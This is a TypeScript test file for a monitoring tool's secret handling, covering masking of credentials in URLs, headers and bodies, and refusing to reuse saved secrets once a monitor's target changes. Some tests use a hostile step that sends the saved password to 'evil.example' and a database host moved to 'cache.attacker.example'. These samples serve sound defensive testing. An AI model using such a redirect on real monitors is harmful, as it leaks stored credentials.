import { describe, expect, it } from 'vitest';
import { judge } from './http-check.ts';
import { applySavedSecrets, isSecretPath, maskSpec, maskUrlSecrets, scrubResult, SECRET_MASK as M, SecretFieldError } from './secrets.ts';
import { monitorSpecSchema, type MonitorSpec } from './spec.ts';

const parse = (o: unknown): MonitorSpec => monitorSpecSchema.parse(o);
const spec = (o: Record<string, unknown>) => parse({ id: 'm', name: 'm', ...o });

describe('maskUrlSecrets', () => {
  it.each([
    ['https://ada:s3cret@db.example/x', `https://ada:${M}@db.example/x`],
    ['https://ghp_token123@github.com/org/repo.git', `https://${M}@github.com/org/repo.git`],
    ['https://api.example/v1?api_key=abc&page=2', `https://api.example/v1?api_key=${M}&page=2`],
    ['https://api.example/v1?page=2&access_token=abc#top', `https://api.example/v1?page=2&access_token=${M}#top`],
    ['https://s3.example/o?X-Amz-Signature=ab12&X-Amz-Credential=AK%2F1', `https://s3.example/o?X-Amz-Signature=${M}&X-Amz-Credential=${M}`],
    ['fetch failed for http://u:p@h:81/?password=x and ?sessionid=y', `fetch failed for http://u:${M}@h:81/?password=${M} and ?sessionid=${M}`],
    ['https://api.example/v1?page=2&sort=name', 'https://api.example/v1?page=2&sort=name'],
    ['{{base}}/login?token={{token}}', `{{base}}/login?token=${M}`],
  ])('%s → %s', (text, masked) => expect(maskUrlSecrets(text)).toBe(masked));
});

describe('isSecretPath', () => {
  it.each([['data.token'], ['session.id'], ['users[0].password'], ['auth.user'], ['items[apiKey=x].name'], ['$.credentials.pwd']])('%s is secret', (p) => expect(isSecretPath(p)).toBe(true));
  it.each([['status'], ['data.items[0].id'], ['healthy'], ['services.lms-api.url']])('%s is not', (p) => expect(isSecretPath(p)).toBe(false));
});

describe('judge quotes no secret value', () => {
  const ex = { status: 200, latencyMs: 1, body: JSON.stringify({ data: { token: 'tok-abc-999' }, status: 'degraded', blob: 'x'.repeat(500) }) };
  it.each([
    [{ path: 'data.token', equals: 'tok-expected' }, 'data.token does not equal the expected value (values not shown: the path looks secret)'],
    [{ path: 'data.token', contains: 'tok-exp' }, 'data.token does not contain the expected text (not shown: the path looks secret)'],
    [{ path: 'status', equals: 'ok' }, 'status is "degraded", expected "ok"'],
  ])('%j', (assertion, message) => {
    const v = judge(ex, { json: [assertion] }, { now: new Date() });
    expect(v.problems).toEqual([message]);
    expect(JSON.stringify(v)).not.toMatch(/tok-/);
  });
  it('cuts long values short', () => {
    const [p] = judge(ex, { json: [{ path: 'blob', equals: 'y' }] }, { now: new Date() }).problems;
    expect(p!.length).toBeLessThan(120);
  });
});

describe('maskSpec', () => {
  it('masks every kind of saved secret and leaves the rest readable', () => {
    const http = maskSpec(
      spec({
        type: 'http',
        url: 'https://u:pw@api.example/x?key=k1&page=1',
        headers: { Authorization: 'Bearer a', 'X-Vault-Token': 'v', 'X-Custom-Session': 's', Accept: 'json', 'X-Trace': 't', 'x-token': '{{token}}', Referer: 'https://u:p@a.example/' },
        body: { user: 'ada', password: 'p', nested: { client_secret: 'c', n: 1 } },
        expect: { json: [{ path: 'data.token', equals: 'expected' }, { path: 'status', equals: 'ok' }] },
      }),
    );
    expect(http).toMatchObject({
      url: `https://u:${M}@api.example/x?key=${M}&page=1`,
      headers: { Authorization: M, 'X-Vault-Token': M, 'X-Custom-Session': M, Accept: 'json', 'X-Trace': 't', 'x-token': '{{token}}', Referer: `https://u:${M}@a.example/` },
      body: { user: 'ada', password: M, nested: { client_secret: M, n: 1 } },
      expect: { json: [{ path: 'data.token', equals: M }, { path: 'status', equals: 'ok' }] },
    });
    expect(maskSpec(spec({ type: 'http', url: 'https://a.example/', body: 'user=ada&password=p' }))).toMatchObject({ body: M });
    expect(maskSpec(spec({ type: 'postgres', password: 'p' }))).toMatchObject({ password: M });
    expect(maskSpec(spec({ type: 'mysql' }))).toMatchObject({ password: '' });
    expect(maskSpec(spec({ type: 'workflow', vars: { base: 'http://x', pw: 'p' }, steps: [{ name: 's', url: '{{base}}/a?token=t1' }] }))).toMatchObject({ vars: { base: M, pw: M }, steps: [{ url: `{{base}}/a?token=${M}` }] });
  });
});

describe('applySavedSecrets', () => {
  const saved = spec({
    type: 'workflow',
    vars: { base: 'https://lms.example', password: 'pw-1' },
    steps: [
      { name: 'log in', url: '{{base}}/login?api_key=k-1', method: 'POST', body: { password: '{{password}}', otp: 'o-1' }, headers: { 'X-Api-Key': 'h-1' } },
      { name: 'use', url: '{{base}}/use' },
    ],
  });
  const shown = () => JSON.parse(JSON.stringify(maskSpec(saved))) as Record<string, unknown> & { steps: Record<string, unknown>[]; vars: Record<string, string> };

  it('round-trips what the API shows into the saved definition', () => {
    expect(applySavedSecrets(shown(), saved, parse)).toEqual(saved);
  });

  it('matches steps by name, so reordering keeps each step’s secrets', () => {
    const s = shown();
    const out = applySavedSecrets({ ...s, steps: [s.steps[1], s.steps[0]] }, saved, parse);
    expect(out.type === 'workflow' && out.steps[1]).toMatchObject({ name: 'log in', url: '{{base}}/login?api_key=k-1', headers: { 'X-Api-Key': 'h-1' }, body: { otp: 'o-1' } });
  });

  it('replaces with new values', () => {
    const out = applySavedSecrets({ ...shown(), vars: { base: M, password: 'pw-2' } }, saved, parse);
    expect(out.type === 'workflow' && out.vars).toEqual({ base: 'https://lms.example', password: 'pw-2' });
  });

  it.each([
    ['the mask with nothing saved', (s: ReturnType<typeof shown>) => ({ ...s, vars: { ...s.vars, extra: M } }), /^vars\.extra: "\*{8}" stands for a saved secret/],
    ['a new origin in vars', (s: ReturnType<typeof shown>) => ({ ...s, vars: { base: 'https://collector.example', password: M } }), /^vars\.password: the saved secret cannot be kept while the monitor now connects to https:\/\/collector\.example/],
    ['a new step to another origin', (s: ReturnType<typeof shown>) => ({ ...s, steps: [...s.steps, { name: 'leak', url: 'https://evil.example/?p={{password}}' }] }), /now connects to https:\/\/evil\.example/],
    ['another monitor type', (s: ReturnType<typeof shown>) => ({ id: 'm', name: 'm', type: 'http', url: 'https://lms.example/', headers: { 'X-Api-Key': M } }), /headers\.X-Api-Key: "\*{8}" stands for a saved secret/],
  ])('refuses %s, naming the field', (_what, change, message) => {
    expect(() => applySavedSecrets(change(shown()), saved, parse)).toThrow(SecretFieldError);
    expect(() => applySavedSecrets(change(shown()), saved, parse)).toThrow(message);
  });

  it('keeps an omitted database password only for the same server; null clears it', () => {
    const db = spec({ type: 'redis', host: 'cache.internal', password: 'r-1' });
    expect(applySavedSecrets({ id: 'm', name: 'm', type: 'redis', host: 'cache.internal' }, db, parse)).toMatchObject({ password: 'r-1' });
    expect(applySavedSecrets({ id: 'm', name: 'm', type: 'redis', host: 'cache.internal', password: null }, db, parse)).not.toHaveProperty('password');
    expect(() => applySavedSecrets({ id: 'm', name: 'm', type: 'redis', host: 'cache.attacker.example' }, db, parse)).toThrow(/^password: the saved secret cannot be kept while the monitor now connects to cache\.attacker\.example:6379/);
  });
});

describe('scrubResult', () => {
  it('masks URL credentials and the definition’s own secrets in error and details', () => {
    const s = spec({ type: 'redis', password: 'redis-pass-1' });
    const r = scrubResult(s, { ok: false, status: 'down', latencyMs: 1, phases: { dnsMs: null, connectMs: null, tlsMs: null, firstByteMs: null }, error: 'AUTH refused: bad password redis-pass-1', details: { url: 'redis://:redis-pass-1@h?token=t' } });
    expect(JSON.stringify(r)).not.toContain('redis-pass-1');
    expect(r.error).toBe(`AUTH refused: bad password ${M}`);
  });
});
